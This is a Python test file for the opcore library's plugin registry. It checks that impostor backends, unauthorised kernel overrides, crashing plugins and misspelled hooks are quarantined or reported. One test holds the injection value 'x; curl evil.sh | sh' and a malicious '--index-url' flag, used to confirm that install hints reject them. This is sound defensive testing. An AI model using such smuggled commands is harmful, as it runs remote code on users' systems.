"""Contracts that hold under hostile plugins and threads (fresh interpreters, real entry points)."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import textwrap
from pathlib import Path
from typing import Any

import numpy as np
import pytest

import opcore
from opcore import shapes
from opcore.backend import Backend
from opcore.errors import BackendUnavailableError, OpDefinitionError, PluginError, UnknownOpError
from opcore.registry import OpDef, Registry, install_hint


def _fake_dist(root: Path, module: str, source: str, dist: str | None = None, ep_name: str | None = None) -> None:
    pkg = root / module
    pkg.mkdir()
    (pkg / "__init__.py").write_text(textwrap.dedent(source))
    dist = dist or module.replace("_", "-")
    info = root / f"{dist.replace('-', '_')}-0.1.dist-info"
    info.mkdir()
    (info / "METADATA").write_text(f"Metadata-Version: 2.1\nName: {dist}\nVersion: 0.1\n")
    (info / "entry_points.txt").write_text(f"[opcore]\n{ep_name or module} = {module}\n")


def _run(root: Path, code: str, **env: str) -> subprocess.CompletedProcess[str]:
    full_env = {**os.environ, "PYTHONPATH": str(root), **env}
    return subprocess.run(
        [sys.executable, "-c", textwrap.dedent(code)], capture_output=True, text=True, env=full_env, timeout=120
    )


def _json(out: subprocess.CompletedProcess[str]) -> Any:
    assert out.returncode == 0, out.stderr
    return json.loads(out.stdout.strip().splitlines()[-1])


# An impostor: its entry point sorts before "numpy", it claims the name "numpy",
# and it tries to replace the real NumPy kernels (override=True) for MatMul and Exp.
IMPOSTOR = """
import numpy as np
from opcore.backend import Backend
from opcore.hookspecs import hookimpl

class Fake(Backend):
    name = "numpy"
    def from_numpy(self, a): return a
    def to_numpy(self, a): return a
    def is_native(self, v): return isinstance(v, np.ndarray)

@hookimpl
def opcore_register_backends(registry):
    registry.register_backend(Fake())
"""

OVERRIDER = """
import numpy as np
from opcore.hookspecs import hookimpl

@hookimpl
def opcore_register_kernels(registry):
    registry.register_kernel("Exp", "numpy", lambda ctx, x: np.zeros_like(x), "float32", override=True)
"""


def test_a_backend_name_belongs_to_its_distribution(tmp_path: Path) -> None:
    _fake_dist(tmp_path, "aaa_impostor", IMPOSTOR, dist="evil-backends")
    out = _run(
        tmp_path,
        """
        import json, opcore
        recs = {p.name: [p.status, p.error] for p in opcore.list_plugins()}
        b = opcore.get_registry().backends["numpy"]
        print(json.dumps({"recs": recs, "provider": b.provider, "y": (opcore.constant([1.0]) + 1).numpy().tolist()}))
        """,
    )
    data = _json(out)
    assert data["provider"] == "opcore-numpy" and data["y"] == [2.0]
    assert data["recs"]["numpy"] == ["loaded", ""]
    status, error = data["recs"]["aaa_impostor"]
    assert status == "quarantined"
    assert "evil-backends" in error and "opcore-numpy" in error and "'numpy'" in error


def test_a_third_party_name_clash_names_both_distributions() -> None:
    class B(Backend):
        name = "tpu9"

    reg = Registry()
    with reg.plugin_scope("first-dist"):
        reg.register_backend(B())
    with pytest.raises(PluginError) as e, reg.plugin_scope("second-dist"):
        reg.register_backend(B())
    assert "first-dist" in str(e.value) and "second-dist" in str(e.value) and "'tpu9'" in str(e.value)


def _tiny_registry() -> Registry:
    reg = Registry()
    with reg.plugin_scope("opcore"):
        reg.register_op(
            OpDef("t.Id", inputs=["x: T"], outputs=["y: T"], type_vars={"T": "float32"}, shape_fn=shapes.unchanged("x"))
        )

    class Np(Backend):
        name = "numpy"

    with reg.plugin_scope("opcore-numpy"):
        reg.register_backend(Np())
        reg.register_kernel("t.Id", "numpy", lambda ctx, x: x, "float32")
    return reg


def test_only_the_owner_or_an_opted_in_distribution_overrides_a_kernel() -> None:
    reg = _tiny_registry()
    owner_only = "only the backend's own distribution 'opcore-numpy'"
    with pytest.raises(PluginError, match=owner_only) as e, reg.plugin_scope("sneaky"):
        reg.register_kernel("t.Id", "numpy", lambda ctx, x: x * 0, "float32", override=True)
    assert "sneaky" in str(e.value) and "allow_overrides" in str(e.value)
    assert reg.kernel("t.Id", "numpy", (opcore.float32,)).provider == "opcore-numpy"  # type: ignore[union-attr]
    assert reg.overrides == []

    reg.override_allowed.add("sneaky")
    with reg.plugin_scope("sneaky"):
        reg.register_kernel("t.Id", "numpy", lambda ctx, x: x * 0, "float32", override=True)
    kd = reg.kernel("t.Id", "numpy", (opcore.float32,))
    assert kd is not None and kd.provider == "sneaky" and kd.overrode == "opcore-numpy"
    assert [o.describe() for o in reg.overrides] == ["t.Id on numpy [float32]: sneaky replaced opcore-numpy"]


def test_a_third_party_cannot_pre_empt_the_owners_kernels() -> None:
    reg = _tiny_registry()
    reg._kernels.clear()
    reg.defer_foreign_kernels = True
    with reg.plugin_scope("early-bird"):  # runs before the owner and takes the slot first
        reg.register_kernel("t.Id", "numpy", lambda ctx, x: x * 0, "float32")
    with reg.plugin_scope("opcore-numpy"):
        reg.register_kernel("t.Id", "numpy", lambda ctx, x: x, "float32")
    reg.defer_foreign_kernels = False
    with pytest.raises(PluginError, match="second kernel"), reg.plugin_scope("early-bird"):
        reg.apply_deferred(reg.take_deferred("early-bird"))
    assert reg.kernel("t.Id", "numpy", (opcore.float32,)).provider == "opcore-numpy"  # type: ignore[union-attr]


def test_overrides_show_in_backends_and_ops(tmp_path: Path) -> None:
    _fake_dist(tmp_path, "fast_exp", OVERRIDER, dist="fast-exp")
    code = """
        import io, json, contextlib, opcore
        from opcore.cli import main
        recs = {p.name: [p.status, p.error] for p in opcore.list_plugins()}
        b, o = io.StringIO(), io.StringIO()
        with contextlib.redirect_stdout(b):
            main(["backends"])
        with contextlib.redirect_stdout(o):
            main(["ops", "--backend", "numpy"])
        print(json.dumps({"recs": recs, "backends": b.getvalue(), "ops": o.getvalue()}))
        """
    refused = _json(_run(tmp_path, code))
    assert refused["recs"]["fast_exp"][0] == "quarantined"
    assert "only the backend's own distribution 'opcore-numpy'" in refused["recs"]["fast_exp"][1]
    assert "override: Exp" not in refused["backends"]
    allowed = _json(_run(tmp_path, code, OPCORE_ALLOW_OVERRIDES="fast-exp"))
    assert allowed["recs"]["fast_exp"] == ["loaded", ""]
    assert "override: Exp on numpy [float32]: fast-exp replaced opcore-numpy" in allowed["backends"]
    assert "override on numpy [float32]: fast-exp replaced opcore-numpy" in allowed["ops"]


def test_system_exit_quarantines_and_interrupt_propagates_then_retries(tmp_path: Path) -> None:
    _fake_dist(tmp_path, "exits", "raise SystemExit(3)\n")
    _fake_dist(
        tmp_path,
        "interrupts",
        """
        import os
        from opcore.hookspecs import hookimpl

        @hookimpl
        def opcore_register_kernels(registry):
            if os.environ.pop("INTERRUPT_ONCE", None):
                raise KeyboardInterrupt
        """,
    )
    out = _run(
        tmp_path,
        """
        import json, opcore
        try:
            opcore.constant([1.0]) + 1
            first = "no interrupt"
        except KeyboardInterrupt:
            first = "interrupted"
        left = sorted(opcore.registry.get_registry().backends)
        y = (opcore.constant([1.0]) + 1).numpy().tolist()
        recs = {p.name: [p.status, p.error] for p in opcore.list_plugins()}
        print(json.dumps({"first": first, "left": left, "y": y, "recs": recs}))
        """,
        INTERRUPT_ONCE="1",
    )
    data = _json(out)
    assert data["first"] == "interrupted"
    assert data["left"] == []  # the interrupted load left nothing half-registered
    assert data["y"] == [2.0]  # and the next use loaded everything again
    assert data["recs"]["interrupts"] == ["loaded", ""]
    assert data["recs"]["numpy"] == ["loaded", ""]
    status, error = data["recs"]["exits"]
    assert status == "quarantined" and "SystemExit" in error


def test_a_raising_conformance_spec_hook_is_isolated(tmp_path: Path) -> None:
    _fake_dist(
        tmp_path,
        "bad_specs",
        """
        from opcore.hookspecs import hookimpl

        @hookimpl
        def opcore_conformance_specs():
            raise RuntimeError("spec hook is broken")
        """,
    )
    out = _run(
        tmp_path,
        """
        import json, opcore
        from opcore_conformance import run
        report = run("numpy", ops="Relu", dtypes=["float32"], max_examples=1)
        recs = {p.name: [p.status, p.error] for p in opcore.list_plugins()}
        print(json.dumps({"ok": report.ok, "bad": recs["bad_specs"]}))
        """,
    )
    data = _json(out)
    assert data["ok"] is True
    assert data["bad"][0] == "quarantined" and "opcore_conformance_specs raised RuntimeError" in data["bad"][1]


class _Misspelled:
    @opcore.hookimpl
    def opcore_register_kernel(self, registry: Registry) -> None:  # missing "s"
        raise AssertionError("never called")


class _Unmarked:
    def opcore_register_ops(self, registry: Registry) -> None:
        raise AssertionError("never called")


def test_misspelled_or_unmarked_hooks_are_reported() -> None:
    rec = opcore.register_plugin(_Misspelled(), name="misspelled-hooks")
    assert rec.status == "quarantined"
    assert "'opcore_register_kernel' is not an opcore hook; did you mean 'opcore_register_kernels'?" in rec.error
    rec = opcore.register_plugin(_Unmarked(), name="unmarked-hooks")
    assert rec.status == "quarantined" and "not marked with @opcore.hookimpl" in rec.error


class _Raising(Backend):
    native_type = np.ndarray

    def __init__(self, name: str, where: str) -> None:
        self.name, self.where = name, where

    def availability(self) -> tuple[bool, str]:
        if self.where == "availability":
            raise OSError("no driver")
        return True, ""

    def load(self) -> None:
        if self.where == "load":
            raise ImportError("torch is missing")


@pytest.mark.parametrize(("where", "cause"), [("availability", OSError), ("load", ImportError)])
def test_a_backend_that_raises_while_probing_is_unavailable_with_its_cause(where: str, cause: type) -> None:
    name = f"raises_in_{where}"

    class Plugin:
        @opcore.hookimpl
        def opcore_register_backends(self, registry: Registry) -> None:
            registry.register_backend(_Raising(name, where))

    assert opcore.register_plugin(Plugin(), name=f"{name}-dist").status == "loaded"
    with pytest.raises(BackendUnavailableError, match=f"backend '{name}'") as e:
        opcore.get_backend(name)
    assert isinstance(e.value.__cause__, cause)


def _boom(*args: Any, **kwargs: Any) -> Any:
    raise ZeroDivisionError("plugin arithmetic went wrong")


class _FaultyOps:
    @opcore.hookimpl
    def opcore_register_ops(self, registry: Registry) -> None:
        kw: dict[str, Any] = dict(inputs=["x: T"], outputs=["y: T"], type_vars={"T": "float32"})
        registry.register_op(OpDef("faulty.BadKernel", shape_fn=shapes.unchanged("x"), gradient=_boom, **kw))
        registry.register_op(OpDef("faulty.BadShape", shape_fn=_boom, differentiable=False, **kw))

    @opcore.hookimpl
    def opcore_register_kernels(self, registry: Registry) -> None:
        registry.register_kernel("faulty.BadKernel", "numpy", _boom, "float32")


def test_plugin_exceptions_name_op_backend_and_plugin_and_keep_their_type() -> None:
    if "faulty.BadKernel" not in opcore.get_registry().ops:
        assert opcore.register_plugin(_FaultyOps(), name="faulty-ops").status == "loaded"
    x = opcore.constant([1.0, 2.0])
    with pytest.raises(ZeroDivisionError) as e:
        opcore.get_op("faulty.BadKernel")(x)
    assert e.value.__notes__ == ["raised by the kernel of op 'faulty.BadKernel' on backend 'numpy' (from 'faulty-ops')"]
    assert e.traceback[-1].name == "_boom"  # the original traceback is kept
    with pytest.raises(ZeroDivisionError) as e:
        opcore.get_op("faulty.BadShape")(x)
    assert e.value.__notes__ == ["raised by the shape function of op 'faulty.BadShape' (from 'faulty-ops')"]
    op = opcore.get_op("faulty.BadKernel")
    with pytest.raises(ZeroDivisionError) as e:
        op.gradient(None, None)  # type: ignore[misc]
    assert e.value.__notes__ == ["raised by the gradient of op 'faulty.BadKernel' (from 'faulty-ops')"]


def test_get_registry_loads_the_plugins() -> None:
    out = subprocess.run(
        [sys.executable, "-c", "import opcore; r = opcore.get_registry(); print(sorted(r.backends), 'Add' in r.ops)"],
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert out.returncode == 0, out.stderr
    assert out.stdout.split("]")[0].count("'numpy'") == 1 and out.stdout.strip().endswith("True")


@pytest.mark.parametrize(("value", "shown"), [(2.5, "2.5 (float)"), ("2", "'2' (str)"), (True, "True (bool)")])
def test_an_int_attribute_reports_what_it_got(value: Any, shown: str) -> None:
    op = OpDef(
        "t.TopK", inputs=["x: T"], outputs=["y: T"], type_vars={"T": "float32"}, attrs=["k: int >= 1"],
        shape_fn=shapes.unchanged("x"),
    )  # fmt: skip
    with pytest.raises(OpDefinitionError) as e:
        op.bind_attrs({"k": value})
    assert str(e.value) == f"t.TopK: attribute 'k' expects an int, got {shown}"


def test_missing_op_suggests_pip_install_only_for_a_valid_distribution_name() -> None:
    reg = Registry()
    with pytest.raises(UnknownOpError, match="pip install opcore-zero-out"):
        reg.get_op("zero.ZeroOut", provider="opcore-zero-out")
    with pytest.raises(UnknownOpError) as e:
        reg.get_op("zero.ZeroOut", provider="x; curl evil.sh | sh")
    assert "pip install" not in str(e.value) and "not a valid distribution name" in str(e.value)
    assert install_hint("--index-url=http://evil") != "pip install --index-url=http://evil"


def test_modules_and_functions_do_not_hide_each_other() -> None:
    assert opcore.backend.Backend is Backend
    assert opcore.plugins.PluginRecord.__name__ == "PluginRecord"
    with opcore.use_backend("numpy") as b:
        assert b.name == "numpy" and opcore.constant([1.0]).backend == "numpy"
    assert any(p.name == "numpy" for p in opcore.list_plugins())


THREADS = """
import threading, json, opcore
barrier = threading.Barrier(8)
errors = []
def first_use(i):
    barrier.wait()
    try:
        y = opcore.constant([float(i)]) * 2.0  # each thread's first call is an op
        assert y.numpy().tolist() == [2.0 * i]
    except Exception as exc:
        errors.append(f"{type(exc).__name__}: {exc}")
threads = [threading.Thread(target=first_use, args=(i,)) for i in range(8)]
for t in threads: t.start()
for t in threads: t.join()
print(json.dumps(errors))
"""


def test_concurrent_first_use_finds_the_backends_in_20_fresh_processes() -> None:
    procs = [
        subprocess.Popen([sys.executable, "-c", THREADS], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
        for _ in range(20)
    ]
    failures = []
    for p in procs:
        out, err = p.communicate(timeout=180)
        if p.returncode != 0 or json.loads(out.strip().splitlines()[-1]):
            failures.append(out + err)
    assert failures == []


class _OwnDType:
    """A dtype object that is not a NumPy dtype, as torch's are."""

    def __init__(self, name: str) -> None:
        self.name = name

    def __eq__(self, other: object) -> bool:
        return isinstance(other, _OwnDType) and other.name == self.name

    def __hash__(self) -> int:
        return hash(self.name)


class _OwnArray:
    def __init__(self, data: np.ndarray) -> None:
        self.data, self.shape, self.dtype = data, data.shape, _OwnDType(data.dtype.name)


class _OwnDTypeBackend(Backend):
    name = "owndtype"
    array_type = "_OwnArray"
    native_type = _OwnArray

    def from_numpy(self, array: np.ndarray) -> _OwnArray:
        return _OwnArray(np.array(array))

    def to_numpy(self, array: Any) -> np.ndarray:
        return np.array(array.data)

    def is_native(self, value: Any) -> bool:
        return isinstance(value, _OwnArray)

    def dtype_of(self, array: Any) -> np.dtype[Any]:
        return np.dtype(array.dtype.name)


class _OwnDTypePlugin:
    @opcore.hookimpl
    def opcore_register_backends(self, registry: Registry) -> None:
        registry.register_backend(_OwnDTypeBackend())

    @opcore.hookimpl
    def opcore_register_kernels(self, registry: Registry) -> None:
        registry.register_kernel("Neg", "owndtype", lambda ctx, x: _OwnArray(-x.data), "float32")


def test_result_checks_ask_the_backend_for_the_dtype() -> None:
    b = _OwnDTypeBackend()
    good = b.from_numpy(np.zeros((2, 1), np.float32))
    assert b.matches(good, (2, 1), np.dtype(np.float32))
    assert not b.matches(good, (2, 1), np.dtype(np.float64))
    assert not b.matches(good, (1, 2), np.dtype(np.float32))
    assert not b.matches(np.zeros((2, 1), np.float32), (2, 1), np.dtype(np.float32))


def test_repeated_calls_on_a_backend_with_its_own_dtype_objects() -> None:
    if "owndtype" not in opcore.get_registry().backends:
        assert opcore.register_plugin(_OwnDTypePlugin(), name="owndtype-dist").status == "loaded"
    x = opcore.constant(np.ones((2, 1), np.float32), backend="owndtype")
    for _ in range(3):  # the first call builds the plan, the next ones take it
        y = opcore.negative(x) if hasattr(opcore, "negative") else opcore.get_op("Neg")(x)
        assert y.numpy().tolist() == [[-1.0], [-1.0]]
